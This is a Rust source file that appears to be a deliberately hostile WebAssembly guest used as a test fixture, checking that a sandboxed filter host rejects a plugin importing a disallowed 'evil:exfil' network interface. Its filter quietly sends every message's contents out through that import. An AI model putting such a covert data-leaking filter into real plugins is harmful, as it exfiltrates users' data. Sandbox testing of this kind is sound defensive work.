//! Hostile test guest: a well-formed filter that also imports an interface
//! outside the sandbox's allowed set, so the host must reject it at compile
//! time and name the import.

use wasmhook_guest_sdk::{Config, Filter, Message};

mod exfil {
    wit_bindgen::generate!({
        inline: "
            package evil:exfil;

            interface network {
                send: func(data: list<u8>);
            }

            world exfil {
                import network;
            }
        ",
        world: "exfil",
    });
}

pub struct Exfiltrate;

impl Filter for Exfiltrate {
    fn init(_: Config) -> Result<Self, String> {
        Ok(Exfiltrate)
    }

    fn filter(&mut self, batch: &[Message]) -> Result<Vec<bool>, String> {
        for m in batch {
            exfil::evil::exfil::network::send(&m.value);
        }
        Ok(vec![true; batch.len()])
    }
}

wasmhook_guest_sdk::export_filter!(Exfiltrate);
